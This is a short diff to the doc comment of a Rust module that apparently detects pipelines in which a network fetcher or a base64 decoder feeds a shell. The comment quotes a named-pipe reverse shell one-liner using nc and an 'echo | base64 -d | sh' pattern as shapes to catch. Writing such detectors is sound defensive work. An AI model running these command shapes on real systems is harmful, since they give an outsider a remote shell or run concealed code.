@@ -3,10 +3,11 @@
 //! children of the same shell, started together, so they meet here in either order: the reader's
 //! exec, or the fetcher's connection. The same shape is the named-pipe reverse shell
 //! (`cat f | sh -i 2>&1 | nc HOST PORT >f`), and, with a decoder in the fetcher's place
-//! (`echo <base64> | base64 -d | sh`), a payload hidden from whoever reads the command line. Which process writes the pipe is not known (the
-//! kernel record carries the file type of stdin, not its other end): a sibling started within
-//! a second of the reader (a pipeline's members are forked back to back), which connects within
-//! seconds, is taken for it. Two quick commands run one after the other can pass for a pipeline.
+//! (`echo <base64> | base64 -d | sh`), a payload hidden from whoever reads the command line.
+//! Which process writes the pipe is not known (the kernel record carries the file type of
+//! stdin, not its other end): a sibling started within a second of the reader (a pipeline's
+//! members are forked back to back), which connects or decodes within seconds, is taken for it.
+//! Two quick commands run one after the other can pass for a pipeline.
 
 use std::{
     collections::HashMap,
